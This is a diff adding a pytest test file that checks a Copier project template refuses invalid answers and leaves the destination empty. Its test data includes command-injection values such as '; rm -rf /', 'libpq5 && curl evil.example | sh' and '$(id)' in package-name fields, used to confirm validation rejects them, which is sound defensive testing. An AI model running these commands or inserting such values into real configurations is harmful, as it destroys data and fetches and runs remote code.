@@ -1,0 +1,84 @@
+"""Bad answers are refused with a message saying what is accepted, and nothing is written."""
+
+from __future__ import annotations
+
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from conftest import TEMPLATE, run, tool_env
+
+COPIER = [sys.executable, "-m", "copier", "copy", "--trust", "--defaults", "--vcs-ref", "HEAD"]
+# Without Poetry on PATH the copy skips `poetry lock`: these tests are about answers only.
+NO_POETRY = tool_env(PATH="/usr/bin:/bin")
+
+BAD_ANSWERS = [
+    ({"project_name": ""}, "project_name is required"),
+    ({"project_slug": "my tool"}, "is not a valid distribution name"),
+    ({"package_name": "my-tool"}, "is not a valid import name"),
+    ({"package_name": "lambda"}, "is a Python keyword"),
+    ({"package_name": "json"}, "would shadow the standard library"),
+    ({"cli_name": "my tool"}, "is not a valid command name"),
+    ({"cli_name": "x;id"}, "is not a valid command name"),
+    ({"python_version": "3.9"}, "Invalid choice for 'python_version'"),
+    ({"python_version": "2.7"}, "Invalid choice for 'python_version'"),
+    ({"debian_release": "buster"}, "Invalid choice for 'debian_release'"),
+    ({"license": "GPL-3.0"}, "Invalid choice for 'license'"),
+    ({"project_type": "lib"}, "Invalid choice for 'project_type'"),
+    ({"hash_policy": "sha256"}, "Invalid choice for 'hash_policy'"),
+    ({"ci": "gitlab"}, "Invalid choice for 'ci'"),
+    ({"author_email": "ada-at-example.com"}, "is not an email address"),
+    ({"description": "two\nlines"}, "must be a single line"),
+    ({"poetry_version": "1.8.3"}, "is not a pinned Poetry 2 release"),
+    ({"dependencies": ["pandas>>2"]}, "is not a PEP 508 requirement"),
+    ({"dependencies": "pandas"}, "must be a YAML list of strings"),
+    ({"apt_build_packages": ["; rm -rf /"]}, "is not a Debian package name"),
+    ({"apt_runtime_packages": ["libpq5 && curl evil.example | sh"]}, "is not a Debian package name"),
+    ({"apt_runtime_packages": ["$(id)"]}, "is not a Debian package name"),
+    ({"package_index_url": "ftp://example.com/simple"}, "is not an http(s) URL"),
+    ({"package_index_url": "https://user:s3cret@example.com/simple/"}, "--secret"),
+]
+
+
+@pytest.mark.parametrize(
+    ("answers", "message"), BAD_ANSWERS, ids=[next(iter(a)) + ":" + m for a, m in BAD_ANSWERS]
+)
+def test_bad_answer_is_refused_and_writes_nothing(
+    copie: Any, answers: dict[str, Any], message: str
+) -> None:
+    result = copie.copy(extra_answers={"project_name": "My Tool", **answers})
+    assert result.exit_code != 0
+    assert message in str(result.exception)
+    assert result.project_dir is None
+    # pytest-copie makes the destination before copying: it must still be empty.
+    assert [list(d.iterdir()) for d in copie.test_dir.iterdir()] == [[]]
+
+
+def test_cli_refusal_names_the_question_and_leaves_an_existing_destination_empty(
+    tmp_path: Path,
+) -> None:
+    dest = tmp_path / "dest"
+    dest.mkdir()
+    result = run(
+        [*COPIER, "--data", "project_name=My Tool",
+         "--data", 'apt_build_packages=["gcc; curl x | sh"]', TEMPLATE, dest],
+        check=False,
+        env=NO_POETRY,
+    )
+    assert result.returncode != 0
+    last_line = result.stderr.strip().splitlines()[-1]
+    assert "Validation error for question 'apt_build_packages'" in last_line
+    assert "optionally pinned as 'name=version'" in last_line
+    assert list(dest.iterdir()) == []
+    assert "gcc; curl" not in "".join(p.read_text() for p in tmp_path.rglob("*") if p.is_file())
+
+
+def test_non_interactive_copy_with_only_a_project_name_works(tmp_path: Path) -> None:
+    dest = tmp_path / "dest"
+    result = run(
+        [*COPIER, "--data", "project_name=Only A Name", TEMPLATE, dest], env=NO_POETRY, input=""
+    )
+    assert result.returncode == 0
+    assert (dest / "src" / "only_a_name" / "cli.py").is_file()
